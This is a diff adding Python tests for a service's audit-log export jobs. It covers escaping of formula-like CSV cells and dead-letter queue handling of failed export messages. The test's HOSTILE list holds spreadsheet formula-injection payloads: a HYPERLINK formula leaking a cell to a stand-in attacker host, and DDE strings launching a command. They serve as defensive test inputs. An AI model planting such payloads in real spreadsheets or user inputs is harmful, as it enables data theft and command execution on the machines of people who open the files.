@@ -262,3 +262,80 @@ def test_a_transient_failure_is_retried_then_fails_the_job_on_the_last_attempt(
     job = call("GET", f"/projects/{project_id}/audit/exports/{job_id}", admin).body
     assert (job["status"], job["attempts"]) == ("failed", jobs.MAX_ATTEMPTS)
     assert job["error"] == "gave up after 3 attempts: ConnectionError"
+
+
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",  # a full-width equals sign
+]
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(aws: Aws, admin: Actor) -> None:
+    # Given changes whose caller-chosen user agent and description start like formulas
+    project_id = _project(admin)
+    for text in HOSTILE:
+        response = call(
+            "PATCH", f"/projects/{project_id}", admin, {"description": text}, headers={"User-Agent": text}
+        )
+        assert response.status == 200, response.body
+    # When the audit trail is exported as CSV and as JSON Lines
+    csv_job = call("POST", f"/projects/{project_id}/audit/exports", admin, {"format": "csv"}).body
+    jsonl_job = call("POST", f"/projects/{project_id}/audit/exports", admin, {"format": "jsonl"}).body
+    assert _run_worker(_received(aws)) == []
+    # Then every CSV cell that started like a formula starts with a single quote instead
+    csv_done = call("GET", f"/projects/{project_id}/audit/exports/{csv_job['job_id']}", admin).body
+    rows = list(csv.DictReader(io.StringIO(_object(aws, csv_done["result_key"]).decode(), newline="")))
+    agents = [r["user_agent"] for r in rows if r["action"] == "project.update"]
+    assert agents == ["'" + text for text in HOSTILE]
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c and c[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"]
+    # And JSON Lines, which no spreadsheet evaluates, keeps the values as they were sent
+    jsonl_done = call("GET", f"/projects/{project_id}/audit/exports/{jsonl_job['job_id']}", admin).body
+    lines = [json.loads(x) for x in _object(aws, jsonl_done["result_key"]).decode().splitlines()]
+    assert [x["user_agent"] for x in lines if x["action"] == "project.update"] == HOSTILE
+
+
+def _kept(aws: Aws) -> list[dict[str, Any]]:
+    url = aws.env["JOBS_DEAD_URL"]
+    return list(
+        aws.sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=10, MessageAttributeNames=["All"]).get(
+            "Messages", []
+        )
+    )
+
+
+def test_a_dead_lettered_message_fails_its_job_unless_it_finished_and_is_kept(aws: Aws, admin: Actor) -> None:
+    # Given a job that succeeded, one still running, and a message that is no job message
+    from serval.logic import jobs
+
+    project_id = _project(admin)
+    done_id = call("POST", f"/projects/{project_id}/audit/exports", admin, {}).body["job_id"]
+    assert _run_worker(_received(aws)) == []
+    running_id = call("POST", f"/projects/{project_id}/audit/exports", admin, {}).body["job_id"]
+    job_store.claim(project_id, running_id, 900)
+    shard = {"job_id": running_id, "project_id": project_id, "step": "shard", "shard": 2, "shards": 4}
+    # When their last deliveries reach the jobs DLQ's consumer
+    outcomes = [
+        jobs.fail_dead_letter(json.dumps({"job_id": done_id, "project_id": project_id}), {"kind": "x"}),
+        jobs.fail_dead_letter(json.dumps(shard), {"kind": "dataset_export", "step": "shard"}),
+        jobs.fail_dead_letter("garbage", {}),
+    ]
+    # Then the finished job is left alone, the running one failed naming its shard
+    assert [o.kind for o in outcomes] == ["skipped", "failed", "poison"]
+    assert call("GET", f"/projects/{project_id}/audit/exports/{done_id}", admin).body["status"] == "succeeded"
+    failed = call("GET", f"/projects/{project_id}/audit/exports/{running_id}", admin).body
+    assert (failed["status"], failed["error"]) == (
+        "failed",
+        "shard 3 of 4 of the export did not finish in any of its 3 deliveries: "
+        "the jobs worker crashed or timed out each time",
+    )
+    # And every message is kept in jobs-dead with its outcome
+    kept = sorted(_kept(aws), key=lambda m: m["MessageAttributes"]["outcome"]["StringValue"])
+    assert [m["MessageAttributes"]["outcome"]["StringValue"] for m in kept] == ["failed", "poison", "skipped"]
+    assert kept[0]["Body"] == json.dumps(shard)
+    assert kept[0]["MessageAttributes"]["step"]["StringValue"] == "shard"
